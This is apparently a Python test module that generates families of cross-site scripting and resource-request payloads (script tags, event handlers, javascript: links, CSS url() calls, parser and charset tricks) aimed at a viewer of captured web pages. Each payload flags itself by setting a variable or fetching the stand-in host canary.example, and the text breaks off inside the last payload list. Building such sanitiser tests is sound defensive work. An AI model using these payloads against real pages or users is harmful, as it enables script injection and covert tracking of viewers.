"""Attacks on whoever looks at a capture: families of markup, styles, links, texts, names and queries.

Each names itself where it succeeds: it sets ``top.bad``, or asks ``canary.example`` for its name. All of it is made up.

``%JS%`` is a script without quotes and spaces that does both, ``%SET%`` one without a slash that does the first,
``%ASK%`` one for a page of no origin that does the second. ``%AT%`` is the address that is to be asked for, ``%NEAR%``
the same without its scheme, ``%ID%`` the attack's name, ``%NL%`` the end of a line. ``%B64(…)%``, ``%ENT(…)%``, ``%URL(…)%`` and ``%CSS(…)%`` are
what is between them in base64, as character references, percent-encoded, and in escapes of CSS.
"""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Mapping
from dataclasses import dataclass
from urllib.parse import quote

__all__ = ["CANARY", "FAMILIES", "Attack", "Family", "attacks", "read_as", "spelled"]

CANARY = "canary.example"


@dataclass(frozen=True, slots=True)
class Family:
    """Attacks of one kind."""

    texts: tuple[str, ...]
    bites: bool = True
    """Whether each is to be seen to work in the browser at hand where nothing guards; else they are for other browsers,
    or bite only what would clean or frame a page."""
    alone: bool = False
    """Whether each needs a capture to itself, because it swallows or turns what stands around it."""
    scripted: bool = True
    """Whether it works in a page whose scripts run, rather than in one whose scripts do not."""


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack as it stands in a capture."""

    name: str
    family: str
    text: str


_CODINGS = {
    "B64": lambda text: b64encode(text.encode()).decode(),
    "ENT": lambda text: "".join(f"&#{ord(each)};" for each in text),
    "HEX": lambda text: "".join(f"&#x{ord(each):06X}" for each in text),
    "URL": lambda text: quote(text, safe=""),
    "CSS": lambda text: "".join(f"\\{ord(each):06x}" for each in text),
}
_CODED = re.compile(r"%(B64|ENT|HEX|URL|CSS)\((.*?)\)%", re.DOTALL)


def spelled(text: str, name: str) -> str:
    """Return an attack with everything filled in."""
    tokens = {
        "%JS%": f"fetch(top.bad=`http://{CANARY}/{name}`)",
        "%SET%": f"top.bad=`{name}`",
        "%ASK%": f"fetch(`http://{CANARY}/{name}`)",
        "%AT%": f"http://{CANARY}/{name}",
        "%NEAR%": f"//{CANARY}/{name}",
        "%ID%": name,
        "%NL%": "\n",
    }
    for token, meant in tokens.items():
        text = text.replace(token, meant)
    return _CODED.sub(lambda found: _CODINGS[found[1]](found[2]), text)


def attacks(family: str) -> list[Attack]:
    """Return the attacks of a family."""
    return [
        Attack(f"{family}-{number}", family, spelled(text, f"{family}-{number}"))
        for number, text in enumerate(FAMILIES[family].texts)
    ]


def read_as(text: str) -> bytes:
    """Return the bytes of an attack on encodings: ``charset:`` stands before the text."""
    charset, _, rest = text.partition(":")
    return rest.encode("latin-1" if charset == "bytes" else charset)


_SCRIPT = """
<script>%JS%</script>
<SCRIPT SRC=%AT%></SCRIPT>
<script src=%NEAR%></script>
<script type=module>%JS%</script>
<script type=module src=%AT%></script>
<script async defer src=%AT%></script>
<script src="data:text/javascript,%JS%"></script>
<script src="data:text/javascript;base64,%B64(%JS%)%"></script>
<script/anything>%JS%</script/anything>
<script type="text/JavaScript" language=vbscript>%JS%</script>
<script type=text/jscript>%JS%</script>
<script charset=utf-7>%JS%</script>
<script><!--%NL%%JS%%NL%--></script>
<script>document.write("<img src=%AT%>")</script>
<script>document.write("<scr"+"ipt>%JS%</scr"+"ipt>")</script>
<script>setTimeout("%SET%")</script>
<script>Function("%SET%")()</script>
<script>new Worker("data:text/javascript,%ASK%")</script>
<script>navigator.sendBeacon(`%AT%`)</script>
<script>new EventSource(`%AT%`)</script>
<script>new WebSocket(`%AT%`.replace(`http`,`ws`))</script>
<script>open(`%AT%`)</script>
<script>top.bad=`%ID%`;alert(1)</script>
<script>import(`%AT%`)</script>
<script>x=new XMLHttpRequest;x.open(`GET`,`%AT%`);x.send()</script>
<script>document.documentElement.append(Object.assign(new Image,{src:`%AT%`}))</script>
<svg><script>%JS%</script></svg>
<svg><script href="data:text/javascript,%JS%"/></svg>
<svg><script xlink:href="%AT%"/></svg>
<svg><script>%ENT(%JS%)%</script></svg>
<x-template><template shadowrootmode=open><script>%JS%</script></template></x-template>
<div><template shadowrootmode=open><img src=x onerror=%JS%></template></div>
<link rel=modulepreload href=%AT%>
<script>location.hash||(top.bad=`%ID%`)</script>
<script>with(document)documentElement.innerHTML+=`<img src=%AT%>`</script>
<noscript></noscript><script>%JS%</script>
<script>//</script><script>%JS%</script>
<scr<script>ipt></scr</script><script>%JS%</script>
"""

_HANDLERS = """
<img src=x: onerror=%JS%>
<IMG SRC=x: OnErRoR="%JS%">
<img/src="x:"onerror=%JS%>
<img src=x: onerror="%ENT(%JS%)%">
<img src=x: onerror="%HEX(%JS%)%">
<img src=x: alt="`" onerror='%JS%'>
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload=%JS%>
<image src=x: onerror=%JS%>
<input type=image src=x: onerror=%JS%>
<picture><img src=x: onerror=%JS%></picture>
<svg onload=%JS%></svg>
<svg/onload=%JS%><circle/></svg>
<svg><image href=x: onerror=%JS%></image></svg>
<svg><animate onbegin=%JS% attributeName=x dur=1s></svg>
<svg><set onbegin=%JS% attributeName=x dur=1s></svg>
<svg><animateTransform onbegin=%JS% attributeName=transform dur=1s></svg>
<svg><animateMotion onbegin=%JS% dur=1s></svg>
<svg><animate onend=%JS% attributeName=x dur=1ms></svg>
<video src=x: onerror=%JS%></video>
<video><source src=x: onerror=%JS%></video>
<video onloadstart=%JS% src=x:></video>
<audio src=x: onerror=%JS%></audio>
<audio><source src=x: onerror=%JS%></audio>
<iframe onload=%JS%></iframe>
<iframe srcdoc onload=%JS%></iframe>
<link rel=stylesheet href=x: onerror=%JS%>
<link rel=stylesheet href="data:text/css," onload=%JS%>
<script src=x: onerror=%JS%></script>
<style onload=%JS%>x{}</style>
<details open ontoggle=%JS%><summary>Lock</summary></details>
<details ontoggle=%JS%><summary>Lock</summary></details>
<input autofocus onfocus=%JS%>
<select autofocus onfocus=%JS%></select>
<textarea autofocus onfocus=%JS%></textarea>
<button autofocus onfocus=%JS%>Ferry</button>
<p tabindex=0 onfocus=%JS%>Ferry</p>
<p contenteditable onfocus=%JS%>Ferry</p>
<p tabindex=0 onfocusin=%JS%>Ferry</p>
<p onclick=%JS%>Ferry</p>
<p onmouseover=%JS%>Ferry</p>
<p onmouseenter=%JS%>Ferry</p>
<p onpointerdown=%JS%>Ferry</p>
<p onmousedown=%JS%>Ferry</p>
<a href=# onclick=%JS%>Ferry</a>
<button onclick=%JS%>Ferry</button>
<label onclick=%JS%>Ferry</label>
<form onsubmit=%JS%><button>Ferry</button></form>
<style>@keyframes %ID%{}</style><p style=animation:%ID%-x onanimationstart=%JS%></p><style>@keyframes %ID%-x{to{opacity:1}}</style>
<style>@keyframes %ID%{to{opacity:1}}</style><p style="animation:%ID% 1ms" onanimationend=%JS%>Ferry</p>
<style>@keyframes %ID%{to{opacity:1}}</style><p style="animation:%ID% 1ms" onwebkitanimationstart=%JS%>Ferry</p>
<button popovertarget=%ID%>Ferry</button><p popover id=%ID% ontoggle=%JS%>Quay</p>
<button popovertarget=%ID%>Ferry</button><p popover id=%ID% onbeforetoggle=%JS%>Quay</p>
<xss onclick=%JS%>Ferry</xss>
<xss id=%ID% tabindex=1 onfocus=%JS%>Ferry</xss>
<math><mi onclick=%JS%>x</mi></math>
<p style="content-visibility:auto" oncontentvisibilityautostatechange=%JS%>Ferry</p>
<track default onerror=%JS%><video><track default src=x: kind=captions onerror=%JS%></video>
<p class='"' onclick='%JS%'>Ferry</p>
<p class=`onclick=1` onclick=%JS%>Ferry</p>
"""

_LINKS = """
<a href=javascript:%JS%>Ferry</a>
<a href="JaVaScRiPt:%JS%">Ferry</a>
<a href=" javascript:%JS%">Ferry</a>
<a href="&#1;javascript:%JS%">Ferry</a>
<a href="&#32;&#9;&#10;javascript:%JS%">Ferry</a>
<a href="java&#9;script:%JS%">Ferry</a>
<a href="java&#x0A;script:%JS%">Ferry</a>
<a href="java&Tab;scr&NewLine;ipt&colon;%JS%">Ferry</a>
<a href="j%NL%a%NL%vascript:%JS%">Ferry</a>
<a href="%ENT(javascript:%JS%)%">Ferry</a>
<a href="%HEX(javascript:%JS%)%">Ferry</a>
<a href="javascript:%URL(%JS%)%">Ferry</a>
<a href="javascript://quay.example/%0a%JS%">Ferry</a>
<a href='javascript:"<img src=x: onerror=%JS%>"'>Ferry</a>
<a href="javascript:void(%JS%)" target=_self>Ferry</a>
<a href=javascript:%JS% rel=noreferrer>Ferry</a>
<map name=%ID%><area shape=default href=javascript:%JS%></map>
<svg><a href=javascript:%JS%><text y=9>Ferry</text></a></svg>
<svg><a xlink:href=javascript:%JS%><text y=9>Ferry</text></a></svg>
<svg><a xlink:href="javas&#99;ript:%JS%"><text y=9>Ferry</text></a></svg>
<svg><a><animate attributeName=href values=javascript:%JS% /><text y=9>Ferry</text></a></svg>
<form action=javascript:%JS%><button>Ferry</button></form>
<form action=javascript:%JS%><input type=submit value=Ferry></form>
<form action=javascript:%JS%><input type=image alt=Ferry></form>
<form><button formaction=javascript:%JS%>Ferry</button></form>
<form id=%ID%></form><button form=%ID% formaction=javascript:%JS%>Ferry</button>
<form><input type=submit formaction="java&#10;script:%JS%" value=Ferry></form>
<iframe src=javascript:%JS%></iframe>
<iframe src="&Tab;javascript:%JS%"></iframe>
<iframe name=%ID%></iframe><a href="javascript:parent.%SET%" target=%ID%>Ferry</a>
<a href="%AT%">Ferry</a>
<a href="%NEAR%">Ferry</a>
<a href="\\/\\/canary.example/%ID%">Ferry</a>
<a href="ht&#10;tp:\\\\canary.example/%ID%">Ferry</a>
<a href="http:/\\canary.example/%ID%">Ferry</a>
<a href="%AT%" target=_blank>Ferry</a>
<a href=# ping="%AT%">Ferry</a>
<a href="%AT%" download>Ferry</a>
<form action="%AT%"><input name=a value=b><button>Ferry</button></form>
<form action="%AT%" method=post><button>Ferry</button></form>
<form action="%AT%" target=_blank><input type=submit></form>
<form><button formaction="%AT%">Ferry</button></form>
<iframe name=%ID%></iframe><form action="%AT%" target=%ID%><button>Ferry</button></form>
<svg><a href="%AT%"><text y=9>Ferry</text></a></svg>
<map name=%ID%><area shape=default href="%AT%" alt=Ferry></map>
<a href=%AT%><summary>Ferry</summary></a>
<meta http-equiv=refresh content="0;url=%AT%">
<META HTTP-EQUIV="Refresh" CONTENT="0; URL='%AT%'">
<meta http-equiv=refresh content="0,%AT%">
<meta http-equiv=refresh content="0&#59;URL=%NEAR%">
<svg><metadata><meta http-equiv=refresh content="0;%AT%"></metadata></svg>
<script>location=`%AT%`</script>
<script>document.forms[document.forms.length-1].submit()</script><form id=%ID% action=%AT%></form><script>document.getElementById(`%ID%`).submit()</script>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=%AT%'>"></iframe>
"""

# what turns the page around it: each is looked at in a window of its own
_LEAVING = """
<a href="http://quay.example@canary.example/%ID%" target=_top>Ferry</a>
<a href="%AT%" target=_top>Ferry</a>
<a href="%AT%" target=_parent>Ferry</a>
<a href="%AT%" target=capture>Ferry</a>
<base target=_top><a href="%AT%">Ferry</a>
<base href="http://canary.example/"><a href="%ID%">Ferry</a>
<base href="http://canary.example/"><img src="%ID%">
<form action="%AT%" target=_top><button>Ferry</button></form>
<form action="%AT%" target=_parent method=post><input type=submit></form>
<script>top.location=`%AT%`</script>
<svg><a href="%AT%" target=_top><text y=9>Ferry</text></a></svg>
<iframe srcdoc="<script>top.location=`%AT%`</script>"></iframe>
<iframe srcdoc="<a href='%AT%' target=_top>Ferry</a><script>document.links[0].click()</script>"></iframe>
<frameset><frame src="%AT%"></frameset>
<frameset onload=%JS%><frame></frameset>
<body onload=%JS%>
<body onpageshow=%JS%>
<body background="%AT%">
<body style="background:url(%AT%)">
<html onclick=1><body onfocusin=%JS%><button>Ferry</button>
"""

_ASKING = """
<img src="%AT%">
<img src=%NEAR%>
<img src=" %AT% ">
<img srcset="%AT% 1x">
<img srcset="%NEAR% 100w" sizes=100vw>
<img loading=eager fetchpriority=high src="ht&Tab;tp://canary.example/%ID%">
<img src=http:\\\\canary.example\\%ID%>
<image src="%AT%">
<input type=image src="%AT%">
<picture><source srcset="%AT%"><img></picture>
<picture><source media="(min-width:1px)" type=image/gif srcset="%NEAR%"><img></picture>
<video poster="%AT%"></video>
<video src="%AT%" preload=auto></video>
<video preload=auto><source src="%AT%"></video>
<video autoplay muted src="%AT%"></video>
<audio src="%AT%" preload=auto></audio>
<audio autoplay><source src="%AT%"></audio>
<embed src="%AT%">
<embed type=image/gif src="%AT%">
<object data="%AT%"></object>
<object type=text/html data="%NEAR%"></object>
<iframe src="%AT%"></iframe>
<iframe src="%NEAR%" sandbox></iframe>
<iframe srcdoc="<img src=%AT%>"></iframe>
<iframe srcdoc="&lt;link rel=stylesheet href=%AT%&gt;"></iframe>
<iframe src="data:text/html,<img src=%AT%>"></iframe>
<iframe src="data:text/html;base64,%B64(<script>%ASK%</script>)%"></iframe>
<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>%ASK%</script></svg>"></iframe>
<object data="data:text/html,<script>%ASK%</script>"></object>
<embed src="data:text/html,<script>%ASK%</script>">
<embed type=image/svg+xml src="data:image/svg+xml;base64,%B64(<svg xmlns='http://www.w3.org/2000/svg' onload='%ASK%'/>)%">
<link rel=stylesheet href="%AT%">
<LINK REL="alternate StyleSheet" TITLE=x HREF="%AT%">
<link rel=stylesheet media=print href="%NEAR%">
<link rel=stylesheet href="data:text/css,@import '%AT%';">
<link rel=icon href="%AT%"><img src="%AT%">
<link rel=preload as=image href="%AT%">
<link rel=preload as=script href="%AT%">
<link rel=preload as=style href="%AT%">
<link rel=preload as=font crossorigin href="%AT%">
<link rel=preload as=fetch crossorigin href="%AT%">
<link rel=preload as=image imagesrcset="%AT% 1x">
<link rel=prefetch href="%AT%">
<table background="%AT%"><tr><td>Tide</table>
<table><tr><td background="%AT%">Tide</table>
<svg><image href="%AT%" width=9 height=9 /></svg>
<svg><image xlink:href="%AT%" width=9 height=9 /></svg>
<svg><filter id=%ID%><feImage href="%AT%"/></filter><rect width=9 height=9 filter=url(#%ID%) /></svg>
<svg><image><set attributeName=href to="%AT%" /></image></svg>
<svg><image><animate attributeName=href values="%AT%" /></image></svg>
<svg><foreignObject><img src="%AT%"></foreignObject></svg>
<math><mtext><img src="%AT%"></mtext></math>
<dialog open><img src="%AT%"></dialog>
<p popover><img src="%AT%"></p>
<details><summary>Lock</summary><img src="%AT%"></details>
<p hidden><img src="%AT%"></p>
<script type=importmap>{"imports":{"%ID%":"%AT%"}}</script><img src="%AT%">
<div><template shadowrootmode=open><img src="%AT%"></template></div>
<select><option><img src="%AT%"></select><img src="%AT%">
<table><img src="%AT%"></table>
<video crossorigin controls src="data:video/mp4,"><track default kind=captions src="%AT%"></video><script>document.querySelectorAll(`track`).forEach(t=>t.track.mode=`showing`)</script>
"""

# a page in a sandbox without scripts shows what is in these
_UNSCRIPTED = """
<noscript><img src="%AT%"></noscript>
<noscript><link rel=stylesheet href="%AT%"></noscript>
<noscript><style>@import "%AT%";</style></noscript>
<noscript><iframe src="%AT%"></iframe></noscript>
<noscript><style>.%ID%{background:url(%AT%)}</style></noscript><p class=%ID%>Tide</p>
"""

_STYLES = """
<style>@import url(%AT%);</style>
<style>@import "%AT%";</style>
<style>@IMPORT'%NEAR%'screen;</style>
<style>@import url("%AT%") layer(a) supports(display:block);</style>
<style>@\\69mport "%AT%";</style>
<style>@imp\\00006f rt url(%AT%);</style>
<style>/**/<!--@import/**/"%AT%";--></style>
<style>@charset "utf-7";@import "%AT%";</style>
<style>@layer a;@import "%AT%" all</style>
<style>@import "%CSS(%AT%)%";</style>
<style>.%ID%{background:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:URL( "%AT%" )}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:url(%NL%'%NEAR%'%NL%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:u\\72l(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:\\000075\\000072\\00006c(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:url("%CSS(%AT%)%")}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:url(\\2f\\2f canary.example/%ID%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:url("ht\\%NL%tp://canary.example/%ID%")}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:url(http:\\\\\\\\canary.example/%ID%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background:url("%AT%</style><p class=%ID%>Tide</p>
<style>.%ID%{background:url(%AT%</style><p class=%ID%>Tide</p>
<style>.%ID%{background-image:image-set("%AT%" 1x)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background-image:-webkit-image-set(url(%AT%) 1x)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background-image:image-\\73 et("%NEAR%" 1x)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background-image:-webkit-cross-fade(url(%AT%),url(%AT%),50%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{background-image:linear-gradient(red,red),url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%::before{content:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%::after{content:"a" url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%::marker{content:url(%AT%)}</style><ul><li class=%ID%>Tide</ul>
<style>.%ID%::first-letter{background:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{content:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{list-style:url(%AT%)}</style><ul><li class=%ID%>Tide</ul>
<style>.%ID%{border:1px solid;border-image:url(%AT%) 1}</style><p class=%ID%>Tide</p>
<style>.%ID%{mask-image:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{-webkit-mask:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{-webkit-box-reflect:below 0 url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{shape-outside:url(%AT%);float:left}</style><p class=%ID%>Tide</p>
<style>@font-face{font-family:%ID%;src:url(%AT%)}.%ID%{font-family:%ID%}</style><p class=%ID%>Tide</p>
<style>@font-face{font-family:%ID%;src:local(none),url(%AT%)format("woff2");unicode-range:U+54}.%ID%{font-family:%ID%}</style><p class=%ID%>Tide</p>
<style>.%ID%{--a:url(%AT%);background:var(--a)}</style><p class=%ID%>Tide</p>
<style>:root{--%ID%:url(%AT%)}.%ID%{background:var(--none,var(--%ID%))}</style><p class=%ID%>Tide</p>
<style>.%ID%[data-k^="s"]{background:url(%AT%)}</style><p class=%ID% data-k=secret>Tide</p>
<style>input.%ID%[value^="4"]{background:url(%AT%)}</style><input class=%ID% value=4711>
<style>div:has(>.%ID%){background:url(%AT%)}</style><div><p class=%ID%>Tide</p></div>
<style>@media screen{.%ID%{background:url(%AT%)}}</style><p class=%ID%>Tide</p>
<style>@media (prefers-color-scheme:light),(prefers-color-scheme:dark){.%ID%{background:url(%AT%)}}</style><p class=%ID%>Tide</p>
<style>@supports (color:red){.%ID%{background:url(%AT%)}}</style><p class=%ID%>Tide</p>
<style>@layer b{.%ID%{background:url(%AT%)}}</style><p class=%ID%>Tide</p>
<style>@scope (.%ID%){:scope{background:url(%AT%)}}</style><p class=%ID%>Tide</p>
<style>.%ID%{&{background:url(%AT%)}}</style><p class=%ID%>Tide</p>
<style>@container (min-width:1px){.%ID%{background:url(%AT%)}}</style><div style=container-type:inline-size><p class=%ID%>Tide</p></div>
<style>@keyframes %ID%{from{background:url(%AT%)}}.%ID%{animation:%ID% 9s}</style><p class=%ID%>Tide</p>
<style>@property --%ID%{syntax:"*";inherits:false;initial-value:url(%AT%)}.%ID%{background:var(--%ID%)}</style><p class=%ID%>Tide</p>
<style media=all type=Text/CSS>.%ID%{background:url(%AT%)}</style><p class=%ID%>Tide</p>
<style></style ><style>.%ID%{background:url(%AT%)}</style><p class=%ID%>Tide</p>
<style></sty</style><style>.%ID%{background:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>"</style><img src=x: onerror=%JS%>"</style>
<style><!--</style><script>%JS%</script>--></style>
<style>.a{content:"</style><svg onload=%JS%>"}</style>
<p style="background:url(%AT%)">Tide</p>
<p style="background:URL('%AT%')">Tide</p>
<p style="background:url(&quot;%AT%&quot;)">Tide</p>
<p style="%ENT(background:url(%AT%)%)">Tide</p>
<p style="background:u\\72 l('%NEAR%')">Tide</p>
<p style="background:url(/**/%AT%),url(%AT%)">Tide</p>
<p style='list-style:url("%AT%");display:list-item'>Tide</p>
<p style="border:1px solid;border-image:url(%AT%) 1">Tide</p>
<p style="--a:url(%AT%);mask:var(--a)">Tide</p>
<ul style="list-style-image:image-set('%AT%' 1x)"><li>Tide</ul>
<svg><style>.%ID%{background:url(%AT%)}</style></svg><p class=%ID%>Tide</p>
<svg><rect width=9 height=9 style="mask-image:url(%AT%)"/></svg>
"""

# what waits until somebody points at it
_HOVERING = """
<style>.%ID%:hover{background:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%:focus{background:url(%AT%)}</style><p tabindex=0 class=%ID%>Tide</p>
<style>.%ID%{cursor:url(%AT%),auto}</style><p class=%ID%>Tide</p>
<style>.%ID%:hover::after{content:url(%AT%)}</style><p class=%ID%>Tide</p>
<style>.%ID%{transition:1ms}.%ID%:hover{color:red}</style><p class=%ID% ontransitionend=%JS%>Tide</p>
"""

# what a browser makes of markup that is not what it seems
_PARSING = """
<!--><script>%JS%</script>-->
<!---><svg onload=%JS%>-->
<!--!><img src=x: onerror=%JS%>--!><img src=x: onerror=%JS%>
<![CDATA[><script>%JS%</script>]]>
<?php <a title="?><img src=x: onerror=%JS%>">
<!x><script>%JS%</script>
</x><script>%JS%</script>
<%25<script>%JS%</script>
<p title="</p><script>">Tide</p><script>%JS%</script>
<textarea></textarea ><script>%JS%</script>
<textarea><!--</textarea><script>%JS%</script>-->
<title><!--</title><script>%JS%</script>-->
<xmp><!--</xmp><script>%JS%</script>-->
<noembed><img title="</noembed><img src=x: onerror=%JS%>"></noembed>
<noframes><img title="</noframes><script>%JS%</script>"></noframes>
<noscript><p title="</noscript><img src=x: onerror=%JS%>"></noscript>
<iframe><img title="</iframe><img src=x: onerror=%JS%>"></iframe>
<svg><desc><img src=x: onerror=%JS%></desc></svg>
<svg><title><style><img src=x: onerror=%JS%></style></title></svg><img src=x: onerror=%JS%>
<svg></p><style><a id="</style><img src=x: onerror=%JS%>">
<svg><p><style><a id="</style><img src=x: onerror=%JS%>"></p></svg>
<svg><style><img src=x: onerror=%JS%></style></svg>
<svg><style>&lt;/style><script>%JS%</script></style></svg>
<math><style><img src=x: onerror=%JS%></style></math>
<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x: onerror=%JS%>"></style></annotation-xml></math>
<math><mi><style><!--</style><img src=x: onerror=%JS%>--></style></mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x: onerror=%JS%&gt;"><img src=x: onerror=%JS%>
<svg><![CDATA[</svg><script>1</script>]]></svg><script>%JS%</script>
<table><caption><svg><style></caption><script>%JS%</script></style></svg></table>
<select><template><style><!--</style></template></select><script>%JS%</script>
<form><p><form><script>%JS%</script></p></form>
<a<img src=x: onerror=%JS%>//><img src=x: onerror=%JS%>
<img src=x: onerror=%JS%// <p>
"><script>%JS%</script>
'--></style></script></textarea></title><script>%JS%</script>
<img \"""><script>%JS%</script>">
<p/onclick=1/class="><script>%JS%</script>"></p><script>%JS%</script>
<img src=x:\x0conerror=%JS%>
<img\tsrc=x:%NL%onerror=%JS%>
<body><p></body></html><script>%JS%</script>
</html><!-- --><img src=x: onerror=%JS%>
"""

# inert as they are: what cleans a page wakes them, or the script of the page that frames it stumbles; or other browsers
_DORMANT = """
<form><math><mtext></form><form><mglyph><style></math><img src onerror=%JS%>
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=%JS%>">
<svg><desc><!--</desc><img src=x: alt="--><img src=x: onerror=%JS%>">
<img src="data:image/png;base64,AAAA' onerror='%JS%">
<p id="&lt;img src=x: onerror=%JS%&gt;">&lt;script&gt;%JS%&lt;/script&gt;</p>
<noscript><style>&lt;/noscript&gt;&lt;img src=x: onerror=%JS%&gt;</style></noscript>
<style>*{x:"&lt;/style&gt;&lt;script&gt;%JS%&lt;/script&gt;"}</style>
<xmp><img src=x: onerror=%JS%></xmp>
<textarea><script>%JS%</script></textarea>
<template><script>%JS%</script><img src=%AT%></template>
<scr\x00ipt>%JS%</scr\x00ipt>
<img name=querySelectorAll id=querySelectorAll><img name=body><form name=documentElement></form>
<form id=defaultView name=defaultView></form><iframe name=getComputedStyle srcdoc></iframe>
<a id=contentDocument></a><a id=contentDocument name=body href=javascript:%JS%></a>
<form name=addEventListener><input name=addEventListener></form><img id=frame><img id=clean><img id=steps>
<ingest-b id=b0 class="k lit chosen" data-b=0 data-r=1 title="%AT%">Tide</ingest-b><p id=b0>Wall</p>
<p data-b="0 1 2" class="lit chosen d" id=reasons>Gate</p>
<a href=vbscript:%JS%>Ferry</a>
<a href=livescript:%JS%>Ferry</a>
<img src=javascript:%JS%>
<img dynsrc=javascript:%JS% lowsrc=javascript:%JS%>
<p style="x:expression(%JS%)">Tide</p>
<p style="-moz-binding:url(%AT%);behavior:url(%AT%)">Tide</p>
<style>p{background:src("%AT%")}p::after{background:image("%AT%")}p{background:element(#a)}</style>
<link rel=import href="%AT%"><link rel=dns-prefetch href="%NEAR%"><link rel=preconnect href="%NEAR%">
<link rel=manifest href="%AT%"><link rel=pingback href="%AT%"><link rel=prerender href="%AT%">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["%AT%"]}],"prerender":[{"urls":["%AT%"]}]}</script>
<applet code="%AT%" archive="%AT%"></applet><bgsound src="%AT%"><isindex action=javascript:%JS%>
<portal src="%AT%"></portal><fencedframe></fencedframe><keygen autofocus onfocus=%JS%>
<svg><use href="%AT%#a"/></svg><svg><use href="data:image/svg+xml,<svg id=a xmlns='http://www.w3.org/2000/svg'><script>%JS%</script></svg>#a"/></svg>
<math href=javascript:%JS%>x</math><math><maction actiontype=statusline xlink:href=javascript:%JS%>x</maction></math>
<meta http-equiv=refresh content="0;url=javascript:%JS%"><meta http-equiv=Link content="<%AT%>; rel=stylesheet">
<meta http-equiv=Content-Security-Policy content="default-src *; script-src 'unsafe-inline'; report-uri %AT%">
<meta http-equiv=Set-Cookie content="a=b"><meta name=referrer content=unsafe-url>
<base href=javascript:/a/><a href=#>Ferry</a>
<object classid=clsid:0 codebase="%AT%"><param name=src value="%AT%"></object>
<svg><g onload=%JS%></g></svg>
<object data=x: onerror=%JS%></object>
<marquee onstart=%JS%>Sluice</marquee>
<embed src=javascript:%JS%>
<!---!><svg onload=%JS%>-->
<noscript><meta http-equiv=refresh content="0;url=%AT%"></noscript>
<style>.%ID%{filter:url(%AT%#a)}</style><p class=%ID%>Tide</p>
<svg><rect width=9 height=9 style="filter:url(%AT%#a)"/></svg>
<plaintext><script>%JS%</script>
"""

# the charset, then the whole of the capture
_ENCODINGS = """
utf-16:<meta charset=utf-8>%WORDS%<script>%JS%</script>
utf-16-be:\ufeff%WORDS%<script>%JS%</script>
utf-16-le:\ufeff%WORDS%<img src=x: onerror=%JS%>
utf-8:\ufeff<meta charset=utf-16le>%WORDS%<script>%JS%</script>
bytes:<meta charset=iso-2022-jp>%WORDS%<p title="\x1b$B\x1b(B"><script>%JS%</script>
bytes:<meta charset=iso-2022-jp>%WORDS%<img alt="\x1b(J" title="\\"onerror=%JS% src=x:>
bytes:<meta charset=gbk>%WORDS%<img title="\x81"><img src=x: onerror=%JS%>
bytes:<meta charset=shift_jis>%WORDS%<img title="\x81" onerror=%JS% src=x:>
bytes:<meta charset=big5>%WORDS%<img title='\xc0' onerror=%JS% src=x:>
bytes:<meta charset=euc-kr>%WORDS%<script>"\x81";%JS%</script>
bytes:<meta charset=x-user-defined>%WORDS%<script>%JS%</script>
bytes:<meta charset=windows-1252>%WORDS%<p title=\x93>\x94<img src=x: onerror=%JS%>
bytes:<meta charset=koi8-r><meta charset=utf-8>%WORDS%<script>/*\xff*/%JS%</script>
bytes:<?xml version="1.0" encoding="iso-8859-5"?><html>%WORDS%<script>%JS%</script></html>
"""

_OLD_ENCODINGS = """
bytes:<meta charset=utf-7>%WORDS%+ADw-script+AD4-%JS%+ADw-/script+AD4-
bytes:%WORDS%\xc0\xbcscript\xc0\xbe%JS%\xc0\xbc/script\xc0\xbe
bytes:%WORDS%\xe0\x80\xbcscript\xe0\x80\xbe%JS%\xe0\x80\xbc/script\xe0\x80\xbe
bytes:<meta charset=us-ascii>%WORDS%\xbcscript\xbe%JS%\xbc/script\xbe
bytes:<meta charset=hz-gb-2312>%WORDS%~{<script>%JS%</script>~}
utf-8:%WORDS%\uff1cscript\uff1e%JS%\uff1c/script\uff1e
utf-32:%WORDS%<script>%JS%</script>
"""

# in fields that a page states of itself: title, author, date, site name, tags, section, description, language
_FIELDS = """
<script>%JS%</script> over the harbour
<img src=x: onerror=%JS%> over the harbour
"><script>%JS%</script>
'><script>%JS%</script>
"><img src=x: onerror=%JS%>
'><svg onload=%JS%>
" autofocus onfocus=%JS% x="
' onmouseover=%JS% style=position:fixed;inset:0 x='
</title><script>%JS%</script>
</textarea><img src=x: onerror=%JS%>
</script><script>%JS%</script>
--><svg onload=%JS%>
]]><img src=x: onerror=%JS%>
<style>@import "%AT%";</style>
<link rel=stylesheet href=%AT%>
<iframe srcdoc="<img src=%AT%>"></iframe>
<meta http-equiv=refresh content="0;%AT%">
<a href=javascript:%JS% id=%ID%>Ferry</a>
<form action=%AT%><button>Ferry</button></form>
<math><mtext><img src=%AT%></mtext></math>
